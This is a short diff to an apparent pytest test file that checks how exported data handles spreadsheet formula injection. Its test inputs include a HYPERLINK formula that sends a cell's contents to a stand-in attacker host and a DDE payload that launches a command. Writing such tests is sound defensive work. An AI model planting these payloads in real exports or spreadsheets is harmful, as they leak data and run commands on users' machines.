@@ -29,7 +29,7 @@ def exported(client) -> list[dict]:
 @pytest.mark.parametrize(
     "text",
     [
-        "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
+        '=HYPERLINK("http://evil.example/?"&A1, "click")',
         "+1+cmd|' /C calc'!A0",
         "-2+3",
         "@SUM(A1:A2)",
